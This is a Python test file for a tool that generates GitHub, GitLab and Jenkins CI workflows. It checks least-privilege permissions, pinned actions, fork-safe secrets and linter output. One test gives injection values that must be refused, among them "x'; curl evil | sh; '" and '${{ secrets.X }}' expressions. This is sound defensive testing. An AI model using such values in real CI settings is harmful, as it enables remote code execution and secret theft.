"""The workflows that `ci.init` writes: their content, the results of linters, and whether ours is up to date."""

from __future__ import annotations

import re
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from buildkit_tasks.ci import github, gitlab, jenkins, workflow
from buildkit_tasks.ci import init as ci_init
from buildkit_tasks.config.session import Session
from buildkit_tasks.config.settings import Settings
from buildkit_tasks.core.errors import Problem
from buildkit_tasks.core.report import Report
from buildkit_tasks.core.world import World
from tests.support import jobs, process

ROOT = Path(__file__).parents[2]
FULL = {"images": "ghcr.io/owner", "packs": "ghcr.io/owner/cache"}
KINDS: dict[str, dict[str, Any]] = {
    "plain": {},
    "full": {**FULL, "extra": ("cargo deny check", "./check 'it''s' \"$HOME\"")},
    "native": {**FULL, "arm64": "native"},
    "elsewhere": {"images": "registry.example.com/shop", "install": "-r ci/requirements.txt --require-hashes"},
    "own": {**FULL, "install": "./dev", "builds": "changed", "runner": "docker", "runner_arm64": "graviton"},
}
TABLE = [(kind, provider) for kind in KINDS for provider in ci_init.PROVIDERS]


def make(packs: str = "", **given: Any) -> workflow.Workflow:
    plain = Settings(Path("/p"))
    settings = replace(plain, ci=replace(plain.ci, **given), packs=replace(plain.packs, repository=packs))
    return workflow.make(settings, "0.1.0", "main", tasks=True)


def render(kind: str, provider: str) -> str:
    return ci_init.render(make(**KINDS[kind]), provider)


def put(root: Path, text: str, provider: str) -> Path:
    path = root / str(ci_init.PROVIDERS[provider].PATH)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


# ---- content


@pytest.mark.parametrize("kind", KINDS)
def test_github_gives_the_least_rights(kind: str) -> None:
    text = render(kind, "github")
    assert "\npermissions: {}\n" in text
    for action in re.findall(r"uses: (.*)", text):
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", action), action
    assert "pull_request_target" not in text
    assert "workflow_run" not in text
    assert text.count("persist-credentials: false") == text.count("uses: actions/checkout@")
    assert not re.search(r"run: \|\n(?: {10}.*\n)*? {10}.*\$\{\{", text)  # expressions only reach a shell as variables
    for name, job in jobs.github(text).items():
        writes = name in ("push", "nightly")
        assert job.facts["permissions"]["contents"] == "read"
        assert (job.facts["permissions"].get("packages") == "write") == (writes and kind != "elsewhere")
        assert job.facts["timeout-minutes"] > 0
        assert ("github.ref == 'refs/heads/main'" in job.facts.get("if", "")) == writes
        secrets = [value for env in job.env for value in env.values() if "secrets." in value and "USER" not in value]
        if not writes:  # nothing for a fork, regardless of the repository's settings
            assert all("head.repo.full_name == github.repository) && secrets." in value for value in secrets)
        if name in ("ci-run", "cargo-deny-check"):
            assert secrets == []


@pytest.mark.parametrize("kind", KINDS)
def test_gitlab_and_jenkins_write_on_the_default_branch_only(kind: str) -> None:
    for name, job in jobs.gitlab(render(kind, "gitlab")).items():
        rules = [rule for rule in job.facts.get("rules", []) if rule.get("when") != "never"]
        if name in ("push", "nightly"):
            assert all("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH" in rule["if"] for rule in rules)
            assert rules
        assert job.facts["interruptible"] is (name not in ("push", "nightly"))
    for name, job in jobs.jenkins(render(kind, "jenkins")).items():
        writes = name in ("Push", "Nightly")
        assert job.facts["secret"] is writes
        if writes:
            assert "branch 'main'; not { changeRequest() }; not { buildingTag() }" in job.facts["when"]


def test_the_jobs_follow_the_settings() -> None:
    names = {kind: [job.name for job in make(**given).jobs] for kind, given in KINDS.items()}
    assert names["plain"] == ["lint", "test", "build", "multiarch"]
    assert names["full"][-4:] == ["cargo-deny-check", "check-it-s", "push", "nightly"]
    assert names["native"] == ["lint", "test", "build", "multiarch-amd64", "multiarch-arm64", "push", "nightly"]
    assert "nightly" not in names["elsewhere"]
    native = jobs.github(render("native", "github"))
    assert native["multiarch-arm64"].facts["runs-on"] == "ubuntu-24.04-arm"
    assert native["multiarch-arm64"].scripts[-1].startswith("invoke ci.multiarch --platform arm64 ")
    own = render("own", "github")
    assert "./dev invoke ci.build --changed" in own
    assert own.count("fetch-depth: 0") == 1
    assert "pip" not in own
    assert "agent { label 'docker' }" in render("own", "jenkins")
    assert "tags: [arm64]" in render("native", "gitlab")


@pytest.mark.parametrize(
    "given",
    [
        {"default_branch": "main]\n  evil: ["},
        {"default_branch": "${{ secrets.X }}"},
        {"install": "x'; curl evil | sh; '"},
        {"install": "x\n- evil"},
        {"install": "--index-url=http://evil x"},
        {"runner": "ubuntu\n"},
        {"runner_arm64": "a' }"},
        {"extra": ("a\nb",)},
        {"extra": ("echo ${{ github.head_ref }}",)},
        {"extra": (" ",)},
        {"images": "ghcr.io/o:tag\n"},
        {"packs": "https://ghcr.io/o"},
        {"arm64": "native", "platforms": ("arm64'; x",)},
    ],
    ids=repr,
)
def test_what_cannot_stand_in_a_workflow_is_refused(given: dict[str, Any]) -> None:
    with pytest.raises(Problem) as raised:
        make(**given)
    assert raised.value.code in ("settings-invalid", "bad-argument")


@given(
    st.text(st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Zs"))),
    st.sampled_from([*ci_init.PROVIDERS]),
)
def test_a_command_arrives_as_it_was_written(text: str, provider: str) -> None:
    command = f"x {text}".rstrip()
    try:
        flow = make(extra=(command,))
    except Problem:
        return
    read = {"github": jobs.github, "gitlab": jobs.gitlab, "jenkins": jobs.jenkins}[provider]
    found = [job.scripts[-1] for job in read(ci_init.render(flow, provider)).values()]
    assert any(script.rstrip("\n").endswith(command) for script in found)


# ---- existing files


@pytest.mark.parametrize(("kind", "provider"), TABLE)
def test_a_file_is_ours_until_somebody_edits_it(kind: str, provider: str) -> None:
    text = render(kind, provider)
    assert workflow.ours(text)
    assert render(kind, provider) == text
    for edited in (text + "\n", text.replace("ci.lint", "ci.lint "), text.split("\n", 1)[1], "", "# x\n" + text):
        assert not workflow.ours(edited)


def test_the_workflow_of_this_repository_is_up_to_date() -> None:
    world = World({"PATH": "/usr/bin:/bin"}, ROOT, ROOT)
    settings = Session(world, Report(world)).settings
    flow = workflow.make(settings, "0", "main", tasks=True)
    assert (ROOT / github.PATH).read_text("utf-8") == ci_init.render(flow, "github"), "run invoke ci.init"


# ---- linters


def tool(name: str) -> Path:
    """Return the path of a tool in the development environment or on the machine; CI fails if ours is missing."""
    found = process.BIN / name
    if not found.exists():
        elsewhere = shutil.which(name)
        if not elsewhere:
            pytest.skip(f"{name} is not installed")
        return Path(elsewhere)
    return found


YAMLLINT = (
    "{extends: default, rules: {line-length: {max: 240}, document-start: disable, truthy: {check-keys: false}, "
    "comments: {min-spaces-from-content: 1}}}"
)


def complaints(root: Path, provider: str, *paths: Path, required: bool) -> str:
    """Return what the installed linters print about files; `required`: only those of the development environment."""
    schema = {
        "github": ["--builtin-schema", "vendor.github-workflows"],
        "gitlab": ["--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci"],
    }[provider]
    calls: list[list[str | Path]] = [
        [tool("yamllint"), "-d", YAMLLINT, *paths],
        [tool("check-jsonschema"), *schema, *paths],
    ]
    if provider == "github":
        timeouts = ["--builtin-schema", "custom.github-workflows-require-timeout"]
        calls.append([tool("check-jsonschema"), *timeouts, *paths])
        calls.append([tool("zizmor"), "--offline", "--no-progress", "-q", "--persona=pedantic", *paths])
        if not required and shutil.which("actionlint"):
            calls.append(["actionlint", "-ignore", "is unknown. available labels", *paths])
    said = ""
    for call in calls:
        done = process.run(call, root, timeout=120)
        said += done.all if done.code else ""
    return said


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_linters_find_nothing(tmp_path: Path, provider: str) -> None:
    (tmp_path / ".git").mkdir()
    texts = {kind: render(kind, provider).replace('"$HOME"', "x") for kind in KINDS}
    paths = [put(tmp_path / kind, text, provider) for kind, text in texts.items()]
    assert complaints(tmp_path, provider, *paths, required=False) == ""


@pytest.mark.parametrize(
    ("provider", "old", "new"),
    [
        ("github", r"@[0-9a-f]{40} # v7.0.1", "@v7"),
        ("github", r"permissions: \{\}\n", ""),
        (
            "github",
            r"run: \|\n +invoke ci.lint",
            'run: |\n          echo "${{ github.head_ref }}"\n          invoke ci.lint',
        ),
        ("github", r"  pull_request:\n", "  pull_request_target:\n"),
        ("github", r"timeout-minutes: 30\n", ""),
        ("github", r"runs-on", "run-on"),
        ("gitlab", r"script:", "scrip:"),
        ("gitlab", r"stages: \[check, push\]", "stages: check: push"),
    ],
)
def test_linters_find_what_must_not_be_there(tmp_path: Path, provider: str, old: str, new: str) -> None:
    (tmp_path / ".git").mkdir()
    text = render("full", provider)
    broken = re.sub(old, lambda _: new, text, count=0 if provider == "gitlab" else 1)
    assert broken != text
    assert complaints(tmp_path, provider, put(tmp_path, broken, provider), required=True)


def test_shellcheck_finds_nothing_in_the_scripts(tmp_path: Path) -> None:
    scripts: set[str] = set()
    for kind, provider in TABLE:
        read = {"github": jobs.github, "gitlab": jobs.gitlab, "jenkins": jobs.jenkins}[provider]
        scripts |= {script for job in read(render(kind, provider)).values() for script in job.scripts}
    for number, script in enumerate(sorted(scripts)):
        (tmp_path / f"{number}.sh").write_text(f"#!/bin/bash\n{script}\n")
    done = process.run([tool("shellcheck"), "--exclude", "SC2016", *tmp_path.iterdir()], tmp_path)
    assert done.code == 0, done.all


@pytest.mark.parametrize("kind", KINDS)
def test_the_braces_and_quotes_of_a_jenkinsfile_are_closed(kind: str) -> None:
    text = render(kind, "jenkins")
    bare = re.sub(r"'''.*?'''|'(?:\\.|[^'\\\n])*'|//[^\n]*", "''", text, flags=re.DOTALL)
    for opening, closing in ("{}", "()", "[]"):
        assert bare.count(opening) == bare.count(closing)
    assert not set(bare) & set("\"'") - {"'"}
    assert gitlab.PATH != jenkins.PATH
